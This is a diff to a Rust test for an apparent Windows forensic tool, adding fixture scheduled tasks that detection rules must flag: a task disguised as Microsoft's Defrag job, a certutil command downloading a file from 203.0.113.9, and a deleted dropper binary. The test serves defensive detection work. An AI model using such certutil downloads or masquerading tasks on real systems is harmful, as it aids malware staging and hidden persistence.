@@ -91,6 +91,30 @@ fn binaries_tree(tree: &Path, real: &Path) -> Option<()> {
         &format!("{tasks}/Gone"),
         &task_xml("\\Gone", r"C:\Users\Public\gone.exe", ""),
     );
+    // Named as Windows' own, running a program from ProgramData.
+    put(
+        &format!("{tasks}/Microsoft/Windows/Defrag/ScheduledDefragHelper"),
+        &task_xml(
+            "\\Microsoft\\Windows\\Defrag\\ScheduledDefragHelper",
+            r"C:\ProgramData\Updater\notnbt.exe",
+            "",
+        ),
+    );
+    // certutil fetching a file (and not running it).
+    put(
+        &format!("{tasks}/Fetch"),
+        &task_xml(
+            "\\Fetch",
+            r"C:\Windows\System32\certutil.exe",
+            r"-urlcache -split -f http://203.0.113.9/p.txt C:\ProgramData\p.txt",
+        ),
+    );
+    // A program deleted after the task was made (the NTFS image deletes it through ntfs-3g).
+    put("ProgramData/dropper.exe", &pe("velociraptor__notnbt.exe"));
+    put(
+        &format!("{tasks}/Dropped"),
+        &task_xml("\\Dropped", r"C:\ProgramData\dropper.exe", ""),
+    );
     // SYSTEM: a real Windows 10 SYSTEM hive (its time zone: Pacific Standard Time) with
     // three services added by hivexsh to its current control set.
     let config = tree.join("Windows/System32/config");
@@ -150,10 +174,11 @@ fn tasks_and_services_name_their_binaries_found_hashed_and_described() {
         return;
     }
     let img = scratch().join("binaries-ntfs.img");
-    if ntfs_image_of(
+    if ntfs_image_deleting(
         &tree,
         &img,
         &[("ProgramData/Updater/notnbt.exe", "Zone.Identifier", ZONE)],
+        &["ProgramData/dropper.exe"],
     )
     .is_none()
     {
@@ -395,6 +420,24 @@ fn tasks_and_services_name_their_binaries_found_hashed_and_described() {
         "no SOFTWARE hive: SystemRoot is Windows' default, and the record says so"
     );
     compared("sha256sum+osslsigncode", n);
+
+    // The findings rules these items are made to meet.
+    assert_rules(
+        &r,
+        "\\Microsoft\\Windows\\Defrag\\ScheduledDefragHelper",
+        &["masquerading"],
+    );
+    assert_rules(&r, "\\Fetch", &["downloads"]);
+    let dropped = &task("\\Dropped").runs[0].binaries[0];
+    assert_eq!(dropped.status, BinaryStatus::Deleted, "{dropped:?}");
+    assert_rules(&r, "\\Dropped", &["binary_deleted"]);
+    assert_rules(&r, "\\Gone", &["binary_missing"]);
+    assert_rules(
+        &r,
+        "\\Encoded",
+        &["encoded_command", "download_and_execute"],
+    );
+    assert_rules(&r, "EvilSvc", &["unquoted_path", "unquoted_path_hijack"]);
 
     // --no-hash: the same files found, nothing read.
     let quick = Evidence::open(&img)
